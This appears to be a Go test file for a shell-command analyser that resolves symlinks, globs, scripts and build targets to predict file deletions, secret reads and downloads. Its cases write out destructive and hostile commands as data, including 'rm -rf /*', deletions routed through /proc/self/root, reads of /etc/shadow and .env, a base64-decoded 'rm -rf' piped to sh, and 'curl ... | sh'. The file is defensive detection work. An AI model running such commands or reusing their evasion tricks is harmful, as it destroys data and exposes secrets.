package command

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestPathsAreResolvedLikeTheKernel(t *testing.T) {
	env, dir := onDisk(t, map[string]string{
		"src/main.go": "package main", "out": "-> /srv/data", "etc": "-> /etc", "loop": "-> loop", "a/b/c.txt": "x",
		"up": "-> ../..", "rel": "-> a/b", "deep": "-> rel/c.txt", ".env": "K=V", "innocent": "-> .env",
	})
	runRows(t, env, []row{
		{`rm -rf out`, w("fs.delete " + dir + "/out"), w("fs.delete /srv/data")},
		{`rm -rf out/`, w("fs.delete /srv/data"), nil},
		{`rm -rf out/x`, w("fs.delete /srv/data/x"), nil},
		{`echo x > out`, w("fs.write /srv/data"), nil},
		{`echo x > etc/passwd`, w("fs.write /etc/passwd @system"), nil},
		{`cat etc/shadow`, w("fs.read /etc/shadow @secret"), nil},
		{`cat innocent`, w("fs.read " + dir + "/.env @secret"), nil},
		{`cat deep`, w("fs.read " + dir + "/a/b/c.txt"), nil},
		{`cat rel/../b/c.txt`, w("fs.read " + dir + "/a/b/c.txt"), nil},
		{`rm -rf rel/../../src`, w("fs.delete " + dir + "/src"), nil},
		{`cat loop`, w("fs.read"), nil},
		{`rm -rf up/x`, w("fs.delete " + filepath.Join(filepath.Dir(filepath.Dir(dir)), "x")), nil},
		{`rm -rf ./src/../../../../../../../../../../srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf /proc/self/root/srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf /proc/1/root/srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf /proc/self/root/proc/self/root/srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf /proc//self/./root/srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf /proc/thread-self/root/srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf /proc/self/cwd/src`, w("fs.delete " + dir + "/src"), nil},
		{`cd out && rm -rf x`, w("fs.delete /srv/data/x"), nil},
		{`ln -s /srv/data l2`, w("fs.link " + dir + "/l2"), nil},
		{`cat *.env .e*`, w("fs.read " + dir + "/.env @secret"), nil},
		{`rm -rf *`, w("fs.delete "+dir+"/src +recursive", "fs.delete "+dir+"/out"), w("fs.delete " + dir + "/.env")},
		{`rm -rf a/*/c.t?t`, w("fs.delete " + dir + "/a/b/c.txt"), nil},
		{`rm -rf "*"`, w("fs.delete " + dir + "/*"), w("fs.delete " + dir + "/src")},
		{`rm -rf [ns]rc`, w("fs.delete " + dir + "/src"), nil},
		{`rm -rf /*`, w("fs.delete @root +glob"), nil},
		{`rm -rf no-such-*`, w("fs.delete " + dir + "/no-such-*"), nil},
		{`for f in a/b/*; do rm "$f"; done`, w("fs.delete " + dir + "/a/b/c.txt"), nil},
	})
}

func TestWithoutATree(t *testing.T) {
	runRows(t, testEnv(), []row{
		{`rm -rf /*`, w("fs.delete /* @root +glob"), nil},
		{`rm -rf ~/*`, w("fs.delete @home-root +glob"), nil},
		{`rm -rf ./*`, w("fs.delete +glob @project"), nil},
		{`rm -rf build/*`, w("fs.delete /home/dev/app/build/* @project"), w("fs.delete @root")},
		{`rm -rf /home/dev/app/../../../srv/data`, w("fs.delete /srv/data"), nil},
		{`rm -rf file:///srv/data`, nil, nil},
	})
}

func TestScriptsOnDisk(t *testing.T) {
	env, dir := onDisk(t, map[string]string{
		"x.sh": "#!/bin/bash\nset -e\nrm -rf /srv/data\n", "noexec": "rm -rf /srv/data\n", "ok.sh": "#!/bin/sh\necho hi\n",
		"args.sh": "rm -rf \"$1\"\n", "cycle.sh": "bash cycle.sh\nsource cycle.sh\n", "one.sh": "./two.sh\n", "two.sh": "#!/bin/sh\n./x.sh\n",
		"py.py": "import shutil\nshutil.rmtree('/srv/data')\n", "tool": "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/srv/data')\n",
		"env.sh": "#!/usr/bin/env -S bash -e\nrm -rf /srv/data\n", "crlf.sh": "echo a\r\nrm -rf /srv/data\r\n", "bin": "\x7fELF\x00\x00rm -rf /srv/data",
		"vars.sh": "DIR=${DIR:-build}\nrun() { \"$@\"; }\nrun make\n$TOOL --version\nrm -rf \"$DIR\"\n", "link.sh": "-> x.sh",
		"lib.sh": "clean() { rm -rf /srv/data; }\n", "decode.sh": "echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d | sh\n", "curl.sh": "curl https://example.com/x | sh\n",
		"broken.sh": "if then rm -rf /srv/data\n", "sub/rel.sh": "cd sub; rm -rf junk\n",
	})
	gone := w("fs.delete /srv/data")
	runRows(t, env, []row{
		{`bash x.sh`, gone, nil}, {`sh ./x.sh`, gone, nil}, {`./x.sh`, gone, nil}, {`source x.sh`, gone, nil}, {`. ./x.sh`, gone, nil},
		{`sudo ./x.sh`, gone, nil}, {`bash -x x.sh`, gone, nil}, {`bash < x.sh`, gone, nil}, {`cat x.sh | bash`, gone, nil}, {`./link.sh`, gone, nil},
		{`exec ./x.sh`, gone, nil}, {`nohup ./x.sh &`, gone, nil}, {`env A=b ./x.sh`, gone, nil}, {`./one.sh`, gone, nil}, {`find . -exec ./x.sh {} +`, gone, nil},
		{`./noexec`, gone, nil}, {`bash args.sh /srv/data`, gone, nil}, {`./env.sh`, gone, nil}, {`bash crlf.sh`, gone, nil}, {`./decode.sh`, gone, nil},
		{`source lib.sh; clean`, gone, nil}, {`source lib.sh`, nil, gone}, {`bash lib.sh`, nil, gone},
		{`python3 py.py`, gone, nil}, {`./tool`, gone, nil}, {`./curl.sh`, w("exec.download"), nil}, {`bash broken.sh`, gone, nil},
		{`./ok.sh`, nil, w("*")}, {`bash cycle.sh`, nil, w("fs.delete")}, {`./bin`, w("exec"), w("fs.delete")},
		{`./missing.sh`, w("exec"), w("unresolved")}, {`bash missing.sh`, w("exec"), w("unresolved")},
		{`./vars.sh`, w("fs.delete " + dir + "/build"), nil}, {`bash sub/rel.sh`, w("fs.delete " + dir + "/sub/junk"), nil},
		{`bash "$SCRIPT"`, w("unresolved +program"), nil},
		{`cp x.sh /tmp/y.sh; bash /tmp/y.sh`, nil, nil},
		{`ssh host ./x.sh`, nil, gone},
	})
	res := Read(context.Background(), "./vars.sh", env)
	for _, e := range res.Effects {
		if e.Kind == "unresolved" && !e.Has("minor") {
			t.Errorf("an ordinary script leaves %v open", e)
		}
	}
}

func TestTargets(t *testing.T) {
	env, dir := onDisk(t, map[string]string{
		"package.json": `{"name":"x","scripts":{"test":"jest","clean":"rm -rf /srv/data","preship":"rm -rf /srv/data","ship":"echo ok","loop":"npm run loop","ci":"npm run clean","lint":"eslint ."}}`,
		"Makefile": "OUT := /srv/data\nCMD = rm -rf $(OUT)\n.PHONY: all clean\nall: build\nbuild: gen\n\tgo build ./...\ngen:\n\techo gen\nclean:\n\t@$(CMD)\n" +
			"deep: clean\nmulti:\n\tcd /srv && \\\n\trm -rf data\ndollar:\n\tfor d in data; do rm -rf /srv/$$d; done\ndash:\n\t-rm -rf $(OUT)\nfree:\n\trm -rf $(ELSEWHERE)/x\nself:\n\trm -rf /srv/$@\n",
		"evil/Makefile": "SHELL := /tmp/sh\nall:\n\techo hi\n", "early/Makefile": "X := $(shell rm -rf /srv/data)\nall:\n\techo hi\n",
		"justfile":     "default:\n  echo hi\n\nclean dir='x':\n  @rm -rf /srv/data\n",
		"Taskfile.yml": "version: '3'\ntasks:\n  clean:\n    cmds:\n      - rm -rf /srv/data\n  ok:\n    cmds:\n      - echo hi\n",
	})
	gone := w("fs.delete /srv/data")
	runRows(t, env, []row{
		{`npm run clean`, gone, nil}, {`npm run-script clean`, gone, nil}, {`yarn clean`, gone, nil}, {`yarn run clean`, gone, nil}, {`pnpm run clean`, gone, nil},
		{`npm run ship`, gone, nil}, {`npm run ci`, gone, nil}, {`npm test`, nil, w("fs.delete")}, {`npm run lint`, nil, w("fs.delete", "unresolved")},
		{`npm run loop`, nil, w("fs.delete")}, {`npm run nothing`, nil, w("unresolved")},
		{`make clean`, gone, nil}, {`make deep`, gone, nil}, {`make multi`, gone, nil}, {`make dollar`, gone, nil}, {`make dash`, gone, nil}, {`make self`, nil, nil},
		{`make`, nil, w("fs.delete")}, {`make build`, nil, w("fs.delete", "unresolved")}, {`make -C early`, gone, nil}, {`make -C evil`, w("exec.tampered /tmp/sh"), nil},
		{`make free`, w("fs.delete +unknown-path"), w("fs.delete /x")}, {`make clean OUT=` + dir + `/o`, w("fs.delete " + dir + "/o"), gone},
		{`just clean`, gone, nil}, {`just`, nil, gone}, {`task clean`, gone, nil}, {`task ok`, nil, gone},
	})
}

func TestOSDiskGlobIsBounded(t *testing.T) {
	_, dir := onDisk(t, map[string]string{"a/x1": "", "a/x2": "", "a/.hidden": "", "b/x3": ""})
	names, err := OSDisk{}.Glob(dir + "/*/x[12]")
	if err != nil || strings.Join(names, " ") != dir+"/a/x1 "+dir+"/a/x2" {
		t.Errorf("got %v %v", names, err)
	}
	if names, _ := (OSDisk{}).Glob(dir + "/a/*"); len(names) != 2 {
		t.Errorf("hidden names match *: %v", names)
	}
	if _, err := (OSDisk{}).Glob("relative/*"); err == nil {
		t.Error("a relative pattern was expanded")
	}
	if names, err := (OSDisk{}).Glob("/*/*/*/*/*/*/*"); err == nil && len(names) > maxEntries {
		t.Errorf("%d names", len(names))
	}
	if _, err := (OSDisk{}).ReadFile(os.DevNull, 10); err == nil {
		t.Error("a device was opened")
	}
}
